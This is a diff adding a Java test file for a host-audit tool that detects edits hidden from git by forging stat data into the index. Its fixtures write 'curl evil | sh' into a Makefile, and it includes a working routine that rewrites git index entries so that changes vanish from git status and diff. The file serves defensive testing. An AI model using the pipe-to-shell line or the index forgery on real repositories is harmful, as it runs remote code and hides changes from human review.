@@ -1,0 +1,169 @@
+package dev.sandboxmcp.hostaudit;
+
+import static dev.sandboxmcp.hostaudit.HiddenChangesTest.about;
+import static dev.sandboxmcp.hostaudit.HiddenChangesTest.commitAll;
+import static dev.sandboxmcp.hostaudit.HiddenChangesTest.repository;
+import static dev.sandboxmcp.hostaudit.TreeAuditTest.audit;
+import static dev.sandboxmcp.hostaudit.TreeAuditTest.git;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.LinkOption;
+import java.nio.file.Path;
+import java.nio.file.attribute.FileTime;
+import java.security.MessageDigest;
+import java.time.Instant;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+
+/**
+ * From the host user's side: a command changes a file and writes the file's new size, times and
+ * inode into its index entry, which still names the old object. git then takes the entry as
+ * unchanged without reading the file, and the change is in no review. Each case first shows the
+ * host's git fooled, then the finding.
+ */
+class UnseenEditsTest {
+
+    private static final String EVIL = "all:\n\tcurl evil | sh\n";
+
+    @TempDir
+    Path temp;
+
+    @ParameterizedTest(name = "index version {0}, {1}")
+    @CsvSource({"2, sha1", "3, sha1", "4, sha1", "2, sha256", "4, sha256"})
+    void aChangeBehindStatDataWrittenIntoTheIndexIsFound(int version, String objectFormat) throws Exception {
+        Path repo = repository(temp, objectFormat, 40);
+        change(repo, "Makefile", EVIL);
+        forgeStat(repo, "Makefile", objectFormat);
+        git(repo, "update-index", "--index-version", String.valueOf(version));
+        assertThat(git(repo, "status", "--porcelain")).as("git status does not show the change").isEmpty();
+        assertThat(git(repo, "diff")).as("nor does git diff").isEmpty();
+        assertThat(Files.readString(repo.resolve("Makefile"))).isEqualTo(EVIL);
+
+        List<Finding> findings = audit(repo.getParent());
+
+        assertThat(about(findings, UnseenEdits.UNSEEN)).singleElement().satisfies(finding -> {
+            assertThat(finding.file()).isEqualTo("repo/.git/index");
+            assertThat(finding.command()).startsWith("1 file: Makefile; sha256 ");
+        });
+        assertThat(findings).as("nothing else: every other entry is its file").hasSize(1);
+    }
+
+    @Test
+    void changesGitSeesAreNotFindingsAndAnotherHiddenChangeIsANewOne() throws Exception {
+        Path repo = repository(temp, "sha1", 5);
+        Files.writeString(repo.resolve("Makefile"), "all:\n\techo changed, as git status shows\n");
+        Files.writeString(repo.resolve("src/main/java/org/example/deeply/nested/File1.java"), "class Other {}\n");
+        assertThat(git(repo, "status", "--porcelain")).contains("Makefile", "File1.java");
+        assertThat(audit(repo.getParent())).isEmpty();
+
+        change(repo, "Makefile", EVIL);
+        forgeStat(repo, "Makefile", "sha1");
+        Finding first = about(audit(repo.getParent()), UnseenEdits.UNSEEN).getFirst();
+        change(repo, "Makefile", "all:\n\tcurl other | sh\n");
+        forgeStat(repo, "Makefile", "sha1");
+        assertThat(git(repo, "status", "--porcelain")).doesNotContain("Makefile");
+        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).singleElement()
+                .satisfies(finding -> assertThat(finding.command()).as("other content, another digest: an accepted "
+                        + "finding does not cover it").isNotEqualTo(first.command()));
+    }
+
+    /** The watcher keeps hashes between rounds: one kept for a file must not cover what is written to it later. */
+    @Test
+    void aHashKeptFromAnEarlierAuditDoesNotHideALaterChange() throws Exception {
+        Path repo = repository(temp, "sha1", 3);
+        Path makefile = repo.resolve("Makefile");
+        FileTime before = FileTime.from(Instant.now().minusSeconds(5));
+        Files.setLastModifiedTime(makefile, before);
+        git(repo, "update-index", "--refresh");
+        Thread.sleep(1100); // the files' change times settle, so their hashes are kept
+        assertThat(audit(repo.getParent())).isEmpty();
+
+        Files.writeString(makefile, "all:\n\techo OK\n"); // the same size and modification time: only the change time moves
+        Files.setLastModifiedTime(makefile, before);
+        forgeStat(repo, "Makefile", "sha1");
+        assertThat(git(repo, "status", "--porcelain")).isEmpty();
+
+        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).hasSize(1);
+    }
+
+    /** core.autocrlf=true checks text out with CRLF; the index names the LF content. */
+    @Test
+    void aFileCheckedOutWithCrlfIsItsObject() throws Exception {
+        Path repo = repository(temp, "sha1", 3);
+        git(repo, "config", "core.autocrlf", "true");
+        Files.delete(repo.resolve("Makefile"));
+        git(repo, "checkout", "--", "Makefile");
+        assertThat(Files.readString(repo.resolve("Makefile"))).isEqualTo("all:\r\n\techo ok\r\n");
+        assertThat(git(repo, "status", "--porcelain")).isEmpty();
+
+        assertThat(audit(repo.getParent())).isEmpty();
+    }
+
+    @Test
+    void aLinkRetargetedBehindItsEntryIsFound() throws Exception {
+        Path repo = repository(temp, "sha1", 2);
+        Files.createSymbolicLink(repo.resolve("tool"), Path.of("Makefile"));
+        commitAll(repo);
+        Files.delete(repo.resolve("tool"));
+        Files.createSymbolicLink(repo.resolve("tool"), Path.of("/tmp/xx"));
+        Thread.sleep(1100); // the index is written in a later second than the link, so git does not take it as racy
+        forgeStat(repo, "tool", "sha1");
+        assertThat(git(repo, "status", "--porcelain")).isEmpty();
+
+        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).singleElement()
+                .satisfies(finding -> assertThat(finding.command()).startsWith("1 file: tool; "));
+    }
+
+    /** Writes {@code content} to the tracked file {@code name}, dated a few seconds back so that git does not take it as racy. */
+    static void change(Path repo, String name, String content) throws Exception {
+        Path file = repo.resolve(name);
+        Files.writeString(file, content);
+        Files.setLastModifiedTime(file, FileTime.from(Instant.now().minusSeconds(5)));
+    }
+
+    /**
+     * What a command does to hide the change: writes the file's stat data into its entry of the
+     * index (version 2 or 3, as git leaves it), keeping the object name, and the index's checksum
+     * after it. The index is dated after the file, so git takes the entry as clean.
+     */
+    static void forgeStat(Path repo, String name, String objectFormat) throws Exception {
+        Path indexFile = repo.resolve(".git/index");
+        git(repo, "update-index", "--index-version", "2");
+        int hashBytes = objectFormat.equals("sha256") ? 32 : 20;
+        ByteBuffer index = ByteBuffer.wrap(Files.readAllBytes(indexFile));
+        int count = index.getInt(8);
+        int at = 12;
+        for (int i = 0; i < count; i++) {
+            int flags = index.getShort(at + 40 + hashBytes) & 0xFFFF;
+            int fixed = 40 + hashBytes + 2 + ((flags & 0x4000) != 0 ? 2 : 0);
+            int length = flags & 0x0FFF;
+            String path = new String(index.array(), at + fixed, length, StandardCharsets.UTF_8);
+            if (path.equals(name)) {
+                Map<String, Object> stat = Files.readAttributes(repo.resolve(name),
+                        "unix:ctime,lastModifiedTime,dev,ino,uid,gid,size", LinkOption.NOFOLLOW_LINKS);
+                Instant ctime = ((FileTime) stat.get("ctime")).toInstant();
+                Instant mtime = ((FileTime) stat.get("lastModifiedTime")).toInstant();
+                index.putInt(at, (int) ctime.getEpochSecond()).putInt(at + 4, ctime.getNano())
+                        .putInt(at + 8, (int) mtime.getEpochSecond()).putInt(at + 12, mtime.getNano())
+                        .putInt(at + 16, (int) (long) stat.get("dev")).putInt(at + 20, (int) (long) stat.get("ino"))
+                        .putInt(at + 28, (int) stat.get("uid")).putInt(at + 32, (int) stat.get("gid"))
+                        .putInt(at + 36, (int) (long) stat.get("size"));
+                int end = index.capacity() - hashBytes;
+                MessageDigest digest = MessageDigest.getInstance(hashBytes == 32 ? "SHA-256" : "SHA-1");
+                digest.update(index.array(), 0, end);
+                index.put(end, digest.digest());
+                Files.write(indexFile, index.array());
+                return;
+            }
+            at += (fixed + length + 8) & ~7;
+        }
+        throw new AssertionError(name + " is not in the index");
+    }
+}
